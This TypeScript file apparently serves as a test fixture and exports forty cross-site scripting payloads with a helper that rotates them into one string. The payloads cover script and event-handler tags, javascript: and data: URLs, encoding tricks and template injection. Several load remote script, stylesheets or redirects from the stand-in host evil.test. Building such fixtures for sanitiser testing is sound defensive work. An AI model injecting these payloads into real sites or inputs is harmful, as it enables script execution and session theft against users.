const run = 'window.xss=1'

/** Forty ways to smuggle a script into a text: tags, attributes, addresses, templates, encodings, comments, styles, frames. */
export const payloads = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<ScRiPt src=//evil.test/x.js></sCrIpT>`,
  `<img src=x onerror=${run}>`,
  `"><img src=x onerror="${run}">`,
  `'><img src=x onerror='${run}'>`,
  `\`><img src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<math><mtext><style><img src=x onerror=${run}></style></mtext></math>`,
  `<iframe srcdoc="<script>parent.xss=1</script>"></iframe>`,
  `<iframe src="javascript:parent.xss=1"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="data:text/html,<script>${run}</script>">`,
  `<a href="javascript:${run}">press</a>`,
  `javascript:${run}`,
  `JaVaScRiPt:${run}//`,
  `java\tscript:${run}`,
  `&#106;avascript:${run}`,
  `data:text/html;base64,PHNjcmlwdD54c3M9MTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  `" onmouseover="${run}" x="`,
  `' autofocus onfocus='${run}`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<body onload=${run}>`,
  `<form action=javascript:${run}><button>press</button></form>`,
  `<base href=//evil.test/>`,
  `<link rel=stylesheet href=//evil.test/x.css>`,
  `<meta http-equiv=refresh content="0;url=//evil.test/">`,
  `<style>@import '//evil.test/x.css'</style>`,
  `<div style="background:url(//evil.test/x.png)">x</div>`,
  `<template><script>${run}</script></template>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `&lt;img src=x onerror=${run}&gt;`,
  `\\u003cimg src=x onerror=${run}\\u003e`,
  `<!--><img src=x onerror=${run}>`,
] as const

/** All forty payloads in one text, starting with payload `from`, so that across the fields each one comes first once. */
export const allPayloads = (from: number) =>
  [...payloads.slice(from % 40), ...payloads.slice(0, from % 40)].join(' ')
